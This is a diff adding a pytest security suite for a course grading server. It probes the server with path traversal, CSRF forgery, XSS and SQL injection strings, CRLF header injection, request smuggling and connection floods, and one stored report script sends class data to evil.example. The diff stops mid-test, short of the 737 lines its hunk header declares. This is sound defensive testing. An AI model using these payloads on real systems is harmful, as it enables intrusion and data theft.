@@ -1,0 +1,737 @@
+"""The course server attacked as students would attack it (issue 63's security review): reading
+another's uploads, results, reports and events; forging the web forms (CSRF, login CSRF, cookies
+from elsewhere) and the multipart body; injecting HTML, script and SQL through every field a
+student controls; denial of service within reason (the cap under a burst, bounded connections, a
+body that never ends, an event stream never read); the queue's fairness; tokens in logs and tables,
+and their revocation.
+
+Each test asserts the server's correct behaviour. Servers are real (uvicorn in a subprocess on
+127.0.0.1 over a real SQLite file), started by Attacked below without a grading worker unless a
+test needs a grade (none here does: the store's own calls stand for a worker where a state must
+move), each under `timeout` and killed by process group in its fixture's finalizer; every request
+has a timeout."""
+
+import asyncio
+import http.client
+import json
+import os
+import re
+import signal
+import socket
+import sqlite3
+import subprocess
+import sys
+import threading
+import time
+import urllib.parse
+from pathlib import Path
+
+import pytest
+
+from grader.serve.store import QUEUED, REPLACED, Accepted, Refused, Rules, Store
+
+EXERCISE = "bias_gelu_fused"
+SRC = b"__global__ void k() {}\n"
+SERVER_LIFE_S = 300
+T = 10                        # every request's timeout, seconds
+
+LAUNCH = """
+import json, sys
+import grader.serve.course as course
+from grader.serve.app import run_server
+from grader.serve.course import Settings
+from grader.serve.store import Rules
+a = json.loads(sys.argv[1])
+course.BODY_TIMEOUT_S = a["body_timeout"]
+run_server(Settings(__import__("pathlib").Path(a["folder"]), "bias_gelu_fused", "emulator", rules=Rules(**a["rules"]),
+                    worker=False, leaderboard=True), port=a["port"], connections=a["connections"])
+"""
+
+
+def free_port() -> int:
+    with socket.socket() as s:
+        s.bind(("127.0.0.1", 0))
+        return s.getsockname()[1]
+
+
+class Attacked:
+    """A course server without a grading worker (uploads stay queued unless a test moves them with
+    the store's own calls), its log in folder/server.log."""
+
+    def __init__(self, folder: Path, *, connections: int = 2048, body_timeout: float = 60.0, **rules):
+        self.folder, self.port = folder, free_port()
+        self.host = f"127.0.0.1:{self.port}"
+        self.log = folder / "server.log"
+        args = {"folder": str(folder), "port": self.port, "rules": rules, "connections": connections,
+                "body_timeout": body_timeout}
+        with open(self.log, "ab") as log:
+            self.proc = subprocess.Popen(["timeout", str(SERVER_LIFE_S), sys.executable, "-c", LAUNCH, json.dumps(args)],
+                                         stdout=log, stderr=subprocess.STDOUT, start_new_session=True)
+        deadline = time.monotonic() + 60
+        while True:
+            try:
+                with socket.create_connection(("127.0.0.1", self.port), timeout=1):
+                    break
+            except OSError:
+                assert self.proc.poll() is None and time.monotonic() < deadline, self.log.read_text()
+                time.sleep(0.1)
+
+    def stop(self) -> None:
+        if self.proc.poll() is None:
+            os.killpg(self.proc.pid, signal.SIGTERM)
+            try:
+                self.proc.wait(timeout=15)
+            except subprocess.TimeoutExpired:
+                os.killpg(self.proc.pid, signal.SIGKILL)
+                self.proc.wait()
+
+    def store(self) -> Store:
+        return Store(self.folder)
+
+
+class Answer:
+    def __init__(self, status: int, headers, body: bytes):
+        self.status, self.headers, self.body = status, headers, body
+
+    @property
+    def text(self) -> str:
+        return self.body.decode("utf-8", "replace")
+
+    def json(self):
+        return json.loads(self.body)
+
+
+def req(server: Attacked, method: str, path: str, *, token: str | None = None, cookie: str | None = None,
+        body: bytes | None = None, headers: dict | None = None) -> Answer:
+    h = dict(headers or {})
+    if token is not None:
+        h["Authorization"] = f"Bearer {token}"
+    if cookie is not None:
+        h["Cookie"] = cookie
+    conn = http.client.HTTPConnection("127.0.0.1", server.port, timeout=T)
+    try:
+        conn.request(method, path, body=body, headers=h)
+        r = conn.getresponse()
+        return Answer(r.status, r.headers, r.read())
+    finally:
+        conn.close()
+
+
+def multipart(*parts: tuple[str, str | None, bytes], boundary: str = "attackboundary42") -> tuple[bytes, str]:
+    """A multipart body of (field, filename or None, bytes) parts, written by hand so that any
+    filename (quotes, CR, LF, NUL) goes in as given."""
+    out = b""
+    for field, filename, data in parts:
+        disposition = f'form-data; name="{field}"' + (f'; filename="{filename}"' if filename is not None else "")
+        out += (f"--{boundary}\r\nContent-Disposition: {disposition}\r\n".encode("utf-8", "surrogateescape")
+                + (b"Content-Type: application/octet-stream\r\n" if filename is not None else b"") + b"\r\n" + data
+                + b"\r\n")
+    return out + f"--{boundary}--\r\n".encode(), f"multipart/form-data; boundary={boundary}"
+
+
+def api_upload(server: Attacked, token: str, data: bytes = SRC, filename: str = "k.cu", extra=()) -> Answer:
+    body, kind = multipart(("file", filename, data), *extra)
+    return req(server, "POST", "/api/submissions", token=token, body=body, headers={"Content-Type": kind})
+
+
+def csrf_of(server: Attacked, token: str) -> str:
+    page = req(server, "GET", "/", cookie=f"grader_session={token}")
+    return re.search(r'name="csrf" value="([0-9a-f]+)"', page.text).group(1)
+
+
+def result_json(status: str = "compile_error") -> str:
+    """A real result.json document (as a worker stores it) of a grade that did not build."""
+    from grader import __version__
+    from grader.core.results import Result
+    from grader.report.files import render_json
+
+    return render_json(Result(exercise=EXERCISE, submission={"path": "k.cu", "sha256": "0" * 64}, backend="emulator",
+                              status=status, grader_version=__version__, message="error: expected ';'"))
+
+
+def issue(folder: Path, *students: str) -> dict[str, str]:
+    store = Store(folder)
+    try:
+        people = {s: store.issue(s) for s in students}
+        people["@instructor"] = store.issue("@instructor", instructor=True)
+    finally:
+        store.close()
+    return people
+
+
+@pytest.fixture(scope="module")
+def course(tmp_path_factory):
+    folder = tmp_path_factory.mktemp("attacked")
+    people = issue(folder, "ann", "bob", "eve", "cap", "quiet")
+    server = Attacked(folder, max_bytes=4096)
+    yield server, people
+    server.stop()
+
+
+def visible_ids(server, token) -> set:
+    return set(re.findall(r'data-id="([^"]+)"', req(server, "GET", "/", cookie=f"grader_session={token}").text))
+
+
+# --- reading another student's upload, result, report or events ------------------------------------
+
+def test_another_students_id_guessed_enumerated_or_path_tricked_answers_404(course):
+    server, people = course
+    ann = api_upload(server, people["ann"])
+    assert ann.status == 202
+    aid = ann.json()["id"]
+    own = req(server, "GET", f"/api/submissions/{aid}", token=people["ann"])
+    assert own.status == 200 and own.json()["student"] == "ann"
+    quoted = urllib.parse.quote
+    tries = [aid, aid.upper(), aid.lower(), aid[:-1], aid + "x", aid[:-1] + ("A" if aid[-1] != "A" else "B"),
+             f"{aid}%00", f"..%2f{aid}", f"%2e%2e/{aid}", f"..%2F..%2Fapi%2Fsubmissions%2F{aid}", f"{quoted(aid)}%20",
+             "1", "0", "-1", "%2a", "*", "%25", "' OR '1'='1", "..", "%2e%2e", ".%2e/%2e%2e/class"]
+    for t in tries:
+        for suffix in ("", "/events", "/report"):
+            base = "/submissions/" if suffix == "/report" else "/api/submissions/"
+            path = base + quoted(t, safe="%/") + suffix
+            got = req(server, "GET", path, token=people["bob"])
+            assert got.status == 404, (path, got.status, got.text)
+            assert aid not in got.text and "ann" not in got.text
+            assert req(server, "GET", path, cookie=f"grader_session={people['bob']}").status == 404
+    # ids are random, not a pattern one's own uploads reveal
+    mine = [api_upload(server, people["eve"]).json()["id"] for _ in range(3)]
+    assert len({len(i) for i in mine + [aid]}) == 1 and len(aid) >= 16
+    assert len({i[:6] for i in mine + [aid]}) == 4            # no shared prefix, no counter
+    assert aid not in visible_ids(server, people["bob"]) and aid in visible_ids(server, people["ann"])
+
+
+def test_the_instructors_pages_and_streams_refuse_a_students_token(course):
+    server, people = course
+    api_upload(server, people["ann"])
+    for path in ("/api/class", "/api/class/events", "/class/", "/class/ann/report.html", "/students/ann",
+                 "/students/..%2Fann", "/students/ann/../bob"):
+        for how in ({"token": people["bob"]}, {"cookie": f"grader_session={people['bob']}"}):
+            got = req(server, "GET", path, **how)
+            assert got.status in (403, 404), (path, got.status)
+            assert "ann" not in got.text, path
+    # the instructor's token cannot submit (it would land in the class as "@instructor")
+    assert api_upload(server, people["@instructor"]).status == 403
+
+
+def test_a_token_in_a_query_string_or_a_cookie_sent_from_another_site_is_no_session(course):
+    server, people = course
+    aid = api_upload(server, people["ann"]).json()["id"]
+    for query in ("token", "access_token", "grader_session", "authorization"):
+        got = req(server, "GET", f"/api/submissions/{aid}?{query}={people['ann']}")
+        assert got.status == 401, query
+        assert "login" in req(server, "GET", f"/?{query}={people['ann']}").text
+    cookie = f"grader_session={people['ann']}"
+    # another site's script (fetch, an <img>, an EventSource) carries the cookie only where
+    # SameSite fails; the server refuses such a request anyway (Fetch Metadata)
+    for site, mode, dest in (("cross-site", "cors", "empty"), ("cross-site", "no-cors", "image"),
+                             ("same-site", "cors", "empty")):
+        meta = {"Sec-Fetch-Site": site, "Sec-Fetch-Mode": mode, "Sec-Fetch-Dest": dest}
+        for path in (f"/api/submissions/{aid}", f"/api/submissions/{aid}/events", "/api/class"):
+            assert req(server, "GET", path, cookie=cookie, headers=meta).status == 401, (path, site)
+    # a link followed from elsewhere still opens one's page; the same-origin page's own requests work
+    nav = {"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "navigate", "Sec-Fetch-Dest": "document"}
+    assert 'id="upload"' in req(server, "GET", "/", cookie=cookie, headers=nav).text
+    same = {"Sec-Fetch-Site": "same-origin", "Sec-Fetch-Mode": "cors"}
+    assert req(server, "GET", f"/api/submissions/{aid}", cookie=cookie, headers=same).status == 200
+    # two session cookies (one tossed in by a sibling site or another path): neither counts
+    two = f"grader_session={people['eve']}; grader_session={people['ann']}"
+    assert req(server, "GET", f"/api/submissions/{aid}", cookie=two).status == 401
+    assert 'id="login"' in req(server, "GET", "/", cookie=two).text
+
+
+def test_revocation_takes_effect_at_once_even_on_open_event_streams(tmp_path):
+    people = issue(tmp_path, "ann", "bob")
+    server = Attacked(tmp_path)
+    streams = []
+    try:
+        aid = api_upload(server, people["ann"]).json()["id"]            # no worker: it stays queued, its stream open
+
+        def opened(path, token):
+            s = socket.create_connection(("127.0.0.1", server.port), timeout=T)
+            s.sendall(f"GET {path} HTTP/1.1\r\nHost: {server.host}\r\nAuthorization: Bearer {token}\r\n\r\n".encode())
+            assert b"200 OK" in s.recv(4096)
+            streams.append(s)
+            return s
+
+        mine, theirs = opened(f"/api/submissions/{aid}/events", people["ann"]), opened("/api/class/events",
+                                                                                       people["@instructor"])
+        store = server.store()
+        store.revoke("ann")
+        store.revoke("@instructor")
+        store.close()
+        assert req(server, "GET", f"/api/submissions/{aid}", token=people["ann"]).status == 401
+        assert req(server, "GET", "/api/class", token=people["@instructor"]).status == 401
+        assert 'id="login"' in req(server, "GET", "/", cookie=f"grader_session={people['ann']}").text
+        for s in (mine, theirs):                 # each open stream ends by itself within a tick or so
+            s.settimeout(3)
+            deadline = time.monotonic() + 3
+            while time.monotonic() < deadline:
+                chunk = s.recv(65536)
+                if not chunk or chunk.endswith(b"0\r\n\r\n"):      # closed, or the chunked body's end
+                    break
+            else:
+                raise AssertionError("a revoked token's event stream stayed open")
+    finally:
+        for s in streams:
+            s.close()
+        server.stop()
+
+
+# --- forging -----------------------------------------------------------------------------------------
+
+def test_signing_in_from_another_sites_form_is_refused_login_csrf(course):
+    server, people = course
+    form = urllib.parse.urlencode({"token": people["eve"]}).encode()
+    kind = {"Content-Type": "application/x-www-form-urlencoded"}
+    for forged in ({"Origin": "https://evil.example"}, {"Origin": "null"}, {"Referer": "https://evil.example/x"},
+                   {"Origin": f"http://{server.host}.evil.example"}, {"Sec-Fetch-Site": "cross-site"},
+                   {"Sec-Fetch-Site": "same-site", "Origin": f"http://{server.host}"}):
+        got = req(server, "POST", "/login", body=form, headers={**kind, **forged})
+        assert got.status == 403 and "set-cookie" not in {k.lower() for k in got.headers}, forged
+    ok = req(server, "POST", "/login", body=form, headers={**kind, "Origin": f"http://{server.host}",
+                                                           "Sec-Fetch-Site": "same-origin"})
+    assert ok.status == 303
+    cookie = ok.headers["set-cookie"].lower()
+    assert "httponly" in cookie and "samesite=strict" in cookie and "path=/;" in cookie + ";"
+    assert "domain=" not in cookie                                    # this host only, no sibling sites
+    assert req(server, "POST", "/login", body=b"token=" + people["eve"].encode() + b"x", headers=kind).status == 401
+
+
+def test_the_upload_form_refuses_a_missing_foreign_or_cross_site_csrf_token(course):
+    server, people = course
+    store = server.store()
+    before = len(store.attempts("quiet"))
+    cookie = f"grader_session={people['quiet']}"
+    mine, theirs = csrf_of(server, people["quiet"]), csrf_of(server, people["bob"])
+    origin = {"Origin": f"http://{server.host}"}
+    for csrf, extra in ((None, origin), ("", origin), ("0" * 64, origin), (theirs, origin),
+                        (mine, {"Origin": "https://evil.example"}), (mine, {"Referer": "https://evil.example/p"}),
+                        (mine, {"Origin": "null"}), (mine, {**origin, "Sec-Fetch-Site": "cross-site"})):
+        fields = [("file", "k.cu", SRC)] + ([("csrf", None, csrf.encode())] if csrf is not None else [])
+        body, kind = multipart(*fields)
+        got = req(server, "POST", "/upload", cookie=cookie, body=body,
+                  headers={"Content-Type": kind, "Accept": "application/json", **extra})
+        assert got.status in (401, 403), (csrf, extra, got.status)      # 401: a cross-site POST carries no session
+    assert len(store.attempts("quiet")) == before                      # nothing kept from a forged form
+    # the alias form and sign-out: the same
+    alias = urllib.parse.urlencode({"csrf": mine, "alias": "forged alias"}).encode()
+    form = {"Content-Type": "application/x-www-form-urlencoded"}
+    assert req(server, "POST", "/alias", cookie=cookie, body=alias, headers={**form, "Origin": "https://evil.example"}).status == 403
+    assert req(server, "POST", "/logout", cookie=cookie, body=b"csrf=" + theirs.encode(), headers=form).status == 403
+    # the page's own form, from the page's origin, is taken
+    body, kind = multipart(("csrf", None, mine.encode()), ("file", "k.cu", SRC))
+    got = req(server, "POST", "/upload", cookie=cookie, body=body,
+              headers={"Content-Type": kind, "Accept": "application/json", **origin, "Sec-Fetch-Site": "same-origin"})
+    assert got.status == 202 and len(store.attempts("quiet")) == before + 1
+    store.close()
+
+
+def test_multipart_tricks_names_bytes_sizes_and_fields(course):
+    server, people = course
+    store = server.store()
+    token = people["bob"]
+
+    def name_of(answer):
+        assert answer.status == 202, answer.text
+        return store.upload(answer.json()["id"])["name"]
+
+    assert name_of(api_upload(server, token, filename="../../x.cu")) == "x.cu"
+    assert name_of(api_upload(server, token, filename="..\\..\\win.cu")) == "win.cu"
+    assert name_of(api_upload(server, token, filename="/etc/passwd")) == "passwd"
+    assert name_of(api_upload(server, token, filename="..")) == "kernel.cu"
+    weird = name_of(api_upload(server, token, filename="a\x00b\x01c.cu"))
+    assert "\x00" not in weird and "\x01" not in weird and weird.endswith(".cu")
+    for length in (300, 5000):                  # a long name: kept short, or the form refused (its part's header)
+        long = api_upload(server, token, filename="n" * length + ".cu")
+        assert long.status == 400 if long.status != 202 else len(name_of(long)) <= 128
+    # bytes that are not UTF-8 are kept as sent (the grade says what it makes of them)
+    raw = b"\xff\xfe\x00__global__ \xc3\x28 void k() {}\n"
+    got = api_upload(server, token, data=raw)
+    assert got.status == 202 and store.data(got.json()["id"]) == raw
+    # an empty file: refused, nothing kept, not counted against the cap
+    empty = api_upload(server, token, data=b"")
+    assert empty.status == 400 and "empty" in empty.json()["error"]
+    # exactly the limit is taken; one byte over is 413
+    assert api_upload(server, people["cap"], data=b"/" * 4096).status == 202
+    over = api_upload(server, people["cap"], data=b"/" * 4097)
+    assert over.status == 413 and "4096" in over.json()["error"]
+    # two `file` fields: refused, none kept
+    n = len(store.attempts("cap"))
+    body, kind = multipart(("file", "a.cu", SRC), ("file", "b.cu", SRC))
+    assert req(server, "POST", "/api/submissions", token=people["cap"], body=body,
+               headers={"Content-Type": kind}).status == 400
+    assert len(store.attempts("cap")) == n
+    store.close()
+
+
+def send_raw(server: Attacked, head: bytes, body: bytes, *, close_after: bool = True, wait: float = 5) -> bytes:
+    with socket.create_connection(("127.0.0.1", server.port), timeout=T) as s:
+        s.sendall(head + body)
+        if close_after:
+            s.shutdown(socket.SHUT_WR)
+        s.settimeout(wait)
+        got = b""
+        try:
+            while chunk := s.recv(65536):
+                got += chunk
+        except socket.timeout:
+            pass
+        return got
+
+
+def test_a_content_length_that_lies_keeps_nothing_and_breaks_nothing(course):
+    server, people = course
+    store = server.store()
+    before = len(store.attempts("eve"))
+    body, kind = multipart(("file", "k.cu", SRC))
+    head = (f"POST /api/submissions HTTP/1.1\r\nHost: {server.host}\r\nAuthorization: Bearer {people['eve']}\r\n"
+            f"Content-Type: {kind}\r\n").encode()
+    # shorter than the body: the form is cut, refused; the rest is not taken as a second request
+    short = send_raw(server, head + f"Content-Length: {len(body) // 2}\r\n\r\n".encode(), body)
+    assert short.startswith(b"HTTP/1.1 400"), short[:200]
+    # far longer than the limit: refused on the header, before the body is read
+    huge = send_raw(server, head + b"Content-Length: 999999999\r\n\r\n", body, close_after=False, wait=3)
+    assert huge.startswith(b"HTTP/1.1 413"), huge[:200]
+    # longer than what is sent, then the client goes: nothing kept
+    send_raw(server, head + f"Content-Length: {len(body) + 500}\r\n\r\n".encode(), body, wait=1)
+    # two Content-Lengths, or one with Transfer-Encoding: refused by the HTTP parser
+    two = send_raw(server, head + f"Content-Length: {len(body)}\r\nContent-Length: 5\r\n\r\n".encode(), body)
+    assert two.startswith(b"HTTP/1.1 400") or two == b""
+    smuggle = send_raw(server, head + f"Content-Length: {len(body)}\r\nTransfer-Encoding: chunked\r\n\r\n".encode(), body)
+    assert not smuggle.startswith(b"HTTP/1.1 202")
+    time.sleep(0.3)
+    assert len(store.attempts("eve")) == before
+    assert api_upload(server, people["eve"]).status in (202, 429)          # the server still answers
+    store.close()
+
+
+# --- injection ---------------------------------------------------------------------------------------
+
+HOSTILE = '"><img src=x onerror=alert(1)><script>alert(2)<\\script>'
+
+
+def test_html_and_script_in_identifiers_filenames_and_aliases_are_escaped(tmp_path):
+    people = issue(tmp_path, HOSTILE, "plain")
+    server = Attacked(tmp_path)
+    try:
+        got = api_upload(server, people[HOSTILE], filename='"><svg onload=alert(3)>.cu')
+        assert got.status == 202
+        api_upload(server, people["plain"], filename="<script>alert(4)</script>.cu")
+        store = server.store()
+        store.claim_wave()
+        store.finish(got.json()["id"], result=result_json(),
+                     report_md="", report_html="<p>r</p>")
+        store.close()
+        pages = [req(server, "GET", "/", cookie=f"grader_session={people['@instructor']}"),
+                 req(server, "GET", "/students/" + urllib.parse.quote(HOSTILE, safe=""), token=people["@instructor"]),
+                 req(server, "GET", "/", cookie=f"grader_session={people[HOSTILE]}"),
+                 req(server, "GET", "/", cookie=f"grader_session={people['plain']}"),
+                 req(server, "GET", "/class/", token=people["@instructor"])]
+        for page in pages:
+            assert page.status == 200
+            for raw in ("<img src=x", "<script>alert", "<svg onload", 'onerror=alert(1)>'):
+                assert raw not in page.text, (raw, page.text[:400])
+        assert "&lt;img src=x onerror=alert(1)&gt;" in pages[0].text or "&#34;&gt;&lt;img" in pages[0].text
+        csp = pages[0].headers["Content-Security-Policy"]
+        assert "script-src 'self'" in csp and "unsafe-inline" not in csp.split("script-src", 1)[1].split(";")[0]
+        assert pages[0].headers["X-Frame-Options"] == "DENY"
+        # the JSON answers are JSON, never sniffed as HTML
+        doc = req(server, "GET", "/api/class", token=people["@instructor"])
+        assert doc.headers["Content-Type"].startswith("application/json") and doc.headers["X-Content-Type-Options"] == "nosniff"
+        assert HOSTILE in {r["student"] for r in doc.json()["students"]}       # kept as given, escaped where shown
+        wrong = api_upload(server, people["plain"], extra=[("exercise", None, b"<script>alert(5)</script>")])
+        assert wrong.status == 400 and wrong.headers["Content-Type"].startswith("application/json")
+        assert wrong.headers["X-Content-Type-Options"] == "nosniff"
+    finally:
+        server.stop()
+
+
+def test_sql_metacharacters_in_every_field_and_header_are_data(tmp_path):
+    evil = "x'); DROP TABLE uploads; --"
+    people = issue(tmp_path, evil, "ann")
+    server = Attacked(tmp_path)
+    try:
+        got = api_upload(server, people[evil], filename="'; DELETE FROM uploads; --.cu",
+                         data=b"/* ' OR 1=1; -- */\n" + SRC, extra=[("exercise", None, b"' OR '1'='1")])
+        assert got.status == 400                                            # another exercise: said, not run
+        got = api_upload(server, people[evil], filename="'; DELETE FROM uploads; --.cu")
+        assert got.status == 202
+        assert api_upload(server, people["ann"]).status == 202
+        for token in ("' OR '1'='1", "' OR 1=1 --", '" OR ""="', "x' UNION SELECT hash FROM tokens --"):
+            assert req(server, "GET", "/api/class", token=token).status == 401
+            assert req(server, "GET", "/", cookie=f"grader_session={token}").text.count('id="login"') == 1
+        for i in ("' OR '1'='1", "x' UNION SELECT * FROM uploads --", "%27%20OR%201%3D1"):
+            assert req(server, "GET", "/api/submissions/" + urllib.parse.quote(i, safe="%"), token=people["ann"]).status == 404
+        hdr = {"X-Forwarded-For": "1' OR '1'='1", "User-Agent": "'; DROP TABLE tokens; --", "Accept": "' OR 1=1"}
+        assert req(server, "GET", "/api/submissions/" + got.json()["id"], token=people[evil], headers=hdr).status == 200
+        csrf = csrf_of(server, people["ann"])
+        alias = urllib.parse.urlencode({"csrf": csrf, "alias": "a' OR '1'='1"}).encode()
+        assert req(server, "POST", "/alias", cookie=f"grader_session={people['ann']}", body=alias,
+                   headers={"Content-Type": "application/x-www-form-urlencoded"}).status == 400
+        with sqlite3.connect(tmp_path / "grader.sqlite") as db:
+            names = {r[0] for r in db.execute("SELECT name FROM sqlite_master WHERE type = 'table'")}
+            rows = db.execute("SELECT student, name FROM uploads ORDER BY seq").fetchall()
+        assert {"uploads", "tokens", "events"} <= names
+        assert rows == [(evil, "'; DELETE FROM uploads; --.cu"), ("ann", "k.cu")]
+    finally:
+        server.stop()
+
+
+def test_a_served_report_runs_no_script_in_the_servers_origin(course):
+    """A report quotes the student's source: whatever it holds (`</script>`, an inline handler),
+    it is served sandboxed, with no script allowed and nothing loaded from elsewhere."""
+    server, people = course
+    aid = api_upload(server, people["quiet"]).json()["id"]
+    store = server.store()
+    while store.upload(aid)["state"] == QUEUED:
+        store.claim_wave()
+    hostile = ('<pre>// </script><script>fetch("/api/class").then(r => r.text()).then(t => '
+               'location = "https://evil.example/?" + t)</script><img src=x onerror="alert(1)"></pre>')
+    assert store.finish(aid, result=result_json(), report_md="",
+                        report_html=hostile)
+    store.close()
+    got = req(server, "GET", f"/submissions/{aid}/report", cookie=f"grader_session={people['quiet']}")
+    assert got.status == 200
+    csp = [d.strip() for d in got.headers["Content-Security-Policy"].split(";")]
+    assert "default-src 'none'" in csp and "sandbox" in csp                 # an opaque origin: no cookie, no API
+    assert not any(d.startswith("script-src") for d in csp)                 # no script at all
+    assert not any("allow-scripts" in d or "allow-same-origin" in d for d in csp)
+    assert got.headers["X-Content-Type-Options"] == "nosniff" and got.headers["Referrer-Policy"] == "no-referrer"
+    assert req(server, "GET", f"/submissions/{aid}/report", token=people["bob"]).status == 404
+
+
+def test_a_crlf_in_a_filename_injects_no_header(course):
+    server, people = course
+    got = api_upload(server, people["eve"], filename="a.cu\r\nSet-Cookie: grader_session=stolen\r\nX-Evil: 1")
+    assert got.status in (202, 400, 429)
+    assert "set-cookie" not in {k.lower() for k in got.headers} and "x-evil" not in {k.lower() for k in got.headers}
+    if got.status == 202:
+        store = server.store()
+        name = store.upload(got.json()["id"])["name"]
+        store.close()
+        assert "\r" not in name and "\n" not in name
+
+
+# --- denial of service, within reason ------------------------------------------------------------------
+
+def test_the_hourly_cap_holds_under_a_concurrent_burst(tmp_path):
+    people = issue(tmp_path, "flood", "calm")
+    server = Attacked(tmp_path, per_hour=3)
+    try:
+        results: list = []
+        threads = [threading.Thread(target=lambda: results.append(api_upload(server, people["flood"]))) for _ in range(12)]
+        for t in threads:
+            t.start()
+        for t in threads:
+            t.join(timeout=30)
+        codes = sorted(r.status for r in results)
+        assert codes == [202] * 3 + [429] * 9, codes
+        for r in results:
+            if r.status == 429:
+                assert 3500 <= int(r.headers["Retry-After"]) <= 3600
+        assert api_upload(server, people["calm"]).status == 202             # the cap is each student's own
+        store = server.store()
+        assert len(store.attempts("flood")) == 3
+        assert [r["state"] for r in store.attempts("flood")].count(QUEUED) == 1   # each replaced the one before
+        store.close()
+    finally:
+        server.stop()
+
+
+def test_connections_are_bounded_and_the_server_recovers(tmp_path):
+    people = issue(tmp_path, "ann")
+    server = Attacked(tmp_path, connections=8)
+    held = []
+    try:
+        for _ in range(20):                      # idle connections and never-ending event streams
+            held.append(socket.create_connection(("127.0.0.1", server.port), timeout=T))
+        answers = [req(server, "GET", "/api/class", token=people["@instructor"]).status for _ in range(3)]
+        assert set(answers) == {503}, answers
+    finally:
+        for s in held:
+            s.close()
+    try:
+        deadline = time.monotonic() + 5
+        while req(server, "GET", "/api/class", token=people["@instructor"]).status != 200:
+            assert time.monotonic() < deadline, "the server did not recover from a flood of connections"
+            time.sleep(0.1)
+    finally:
+        server.stop()
+
+
+def test_a_body_that_never_ends_stalls_nothing_and_times_out(tmp_path):
+    people = issue(tmp_path, "slow", "fast")
+    server = Attacked(tmp_path, body_timeout=1.5)
+    try:
+        body, kind = multipart(("file", "k.cu", SRC))
+        with socket.create_connection(("127.0.0.1", server.port), timeout=T) as s:
+            s.sendall((f"POST /api/submissions HTTP/1.1\r\nHost: {server.host}\r\nAuthorization: Bearer {people['slow']}"
+                       f"\r\nContent-Type: {kind}\r\nContent-Length: {len(body) + 1000}\r\n\r\n").encode() + body[:40])
+            start = time.monotonic()
+            fast = api_upload(server, people["fast"])                       # meanwhile, others are served at once
+            assert fast.status == 202 and time.monotonic() - start < 1.0
+            assert req(server, "GET", f"/api/submissions/{fast.json()['id']}", token=people["fast"]).status == 200
+            s.settimeout(5)
+            answer = s.recv(4096)
+            assert answer.startswith(b"HTTP/1.1 408"), answer[:200]
+            assert time.monotonic() - start < 4
+        store = server.store()
+        assert store.attempts("slow") == []
+        assert [c.student for c in store.claim_wave()] == ["fast"]          # the queue never waited for it
+        store.close()
+    finally:
+        server.stop()
+
+
+def test_an_event_stream_never_read_is_bounded_and_stalls_no_one(tmp_path):
+    from grader.serve.course import DROPPED, WATCHER_QUEUE, Fanout
+
+    people = issue(tmp_path, "ann", "bob")
+    store = Store(tmp_path)
+    ids = [store.accept(s, "k.cu", SRC, Rules()).id for s in ("ann", "bob")]
+
+    async def flood():
+        fanout = Fanout(store)
+        deaf, upload_deaf = fanout.watch(None), fanout.watch(ids[0])
+        for i in range(WATCHER_QUEUE + 50):
+            store.add_event(ids[0], "phase", {"phase": "building", "n": i})
+        fanout.tick()
+        assert deaf.qsize() == 1 and deaf.get_nowait() == DROPPED          # dropped, its memory freed
+        assert upload_deaf.qsize() == 1 and upload_deaf.get_nowait() == DROPPED
+        assert not fanout.everyone and not fanout.uploads
+
+    asyncio.run(flood())
+    store.close()
+    # over HTTP: a watcher that never reads holds no one up
+    server = Attacked(tmp_path)
+    deaf = []
+    try:
+        for path, token in ((f"/api/submissions/{ids[0]}/events", people["ann"]), ("/api/class/events", people["@instructor"])):
+            s = socket.create_connection(("127.0.0.1", server.port), timeout=T)
+            s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1024)
+            s.sendall(f"GET {path} HTTP/1.1\r\nHost: {server.host}\r\nAuthorization: Bearer {token}\r\n\r\n".encode())
+            deaf.append(s)
+        start = time.monotonic()
+        for _ in range(5):
+            assert api_upload(server, people["bob"]).status == 202
+            assert req(server, "GET", f"/api/submissions/{ids[1]}", token=people["bob"]).status == 200
+        assert time.monotonic() - start < 3
+    finally:
+        for s in deaf:
+            s.close()
+        server.stop()
+
+
+# --- the queue's fairness ------------------------------------------------------------------------------
+
+def test_a_flooding_student_delays_another_by_at_most_one_wave(tmp_path):
+    store = Store(tmp_path)
+    for i in range(50):
+        store.accept("flood", "k.cu", SRC + f"//{i}".encode(), Rules(), now=1000.0 + i)
+    first = store.claim_wave(now=1100.0)
+    assert [c.student for c in first] == ["flood"]                 # one wave: the flood's newest only
+    for i in range(50):                                            # it keeps flooding while graded
+        store.accept("flood", "k.cu", SRC + f"//again{i}".encode(), Rules(), now=1200.0 + i)
+    calm = store.accept("calm", "k.cu", SRC, Rules(), now=1300.0)
+    assert calm.place == 1                                          # never served: first in line
+    store.finish(first[0].id, result=result_json(), report_md="", report_html="")
+    wave = store.claim_wave(now=1400.0)
+    assert [c.student for c in wave][0] == "calm" and len(wave) == 2    # calm first, the flood's one beside it
+    queued = [r for r in store.attempts("flood") if r["state"] == QUEUED]
+    assert queued == []                                             # a flood leaves one upload at a time in the queue
+    assert sum(1 for r in store.attempts("flood") if r["state"] == REPLACED) == 98
+    store.close()
+
+
+def test_a_replaced_upload_is_never_graded_after_a_restart_or_a_retry(tmp_path):
+    store = Store(tmp_path)
+    old = store.accept("ann", "old.cu", SRC, Rules(), now=1.0)
+    (claimed,) = store.claim_wave(now=2.0)
+    newer = store.accept("ann", "new.cu", SRC + b"//2", Rules(), now=3.0)       # while the old one grades
+    assert claimed.id == old.id and newer.replaced == ()
+    again = Store(tmp_path)                                          # the worker died; the next one starts
+    again.requeue_stale()
+    assert again.upload(old.id)["state"] == REPLACED                # the newer one supersedes it
+    assert [c.id for c in again.claim_wave(now=4.0)] == [newer.id]
+    assert json.loads(again.events(upload=old.id)[-1]["data"]) == {"state": REPLACED, "by": newer.id}
+    # a machine fault's retry: the same
+    third = again.accept("ann", "third.cu", SRC + b"//3", Rules(), now=5.0)
+    assert again.retry(newer.id, "the machine failed the grade")
+    assert again.upload(newer.id)["state"] == REPLACED
+    assert [c.id for c in again.claim_wave(now=6.0)] == [third.id]
+    assert [r["state"] for r in again.attempts("ann")].count(QUEUED) == 0
+    # a retry with nothing newer: queued again, as before
+    assert again.retry(third.id, "again") and again.upload(third.id)["state"] == QUEUED
+    again.close()
+    store.close()
+
+
+def test_the_deadline_keeps_late_uploads_marked_or_refuses_them_over_http(tmp_path):
+    keep, refuse = tmp_path / "keep", tmp_path / "refuse"
+    keep.mkdir(), refuse.mkdir()
+    past = time.time() - 60
+    k, r = issue(keep, "ann"), issue(refuse, "ann")
+    servers = [Attacked(keep, deadline=past, late="keep"), Attacked(refuse, deadline=past, late="refuse")]
+    try:
